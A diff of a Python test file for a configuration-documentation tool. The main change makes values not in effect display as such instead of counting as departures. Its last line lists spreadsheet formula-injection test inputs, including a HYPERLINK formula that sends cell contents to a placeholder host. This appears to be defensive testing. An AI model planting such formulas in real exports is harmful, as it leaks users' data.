@@ -393,11 +393,16 @@ def test_same_name_twice_is_a_failure(tmp_path, model):
 
 
 def test_values_follow_the_yaml(samples, canonical, matrix, model):
-    """Every parameter cell is the YAML value in words, marked exactly where it differs from values.yaml."""
+    """Every parameter cell is the YAML value in words, marked exactly where it differs from values.yaml; a
+    value not in effect (its section replaced or switched off) is shown as such and is no departure."""
+    from draftkit.effects import not_in_effect
+
     slugs = [c.slug for c in matrix.columns]
     for p, row in zip(model.parameters, matrix.parameters):
         for slug, value in zip(slugs, row.values):
-            assert value.departure == (get(samples[slug].data, p.path) != get(canonical.data, p.path))
+            moot = not_in_effect(p, samples[slug].data, model)
+            assert value.departure == (not moot and get(samples[slug].data, p.path) != get(canonical.data, p.path))
+            assert value.text.startswith("— (not in effect: ") == bool(moot)
 
 
 @pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=1+2", "+1", "-1", "@SUM(A1)",
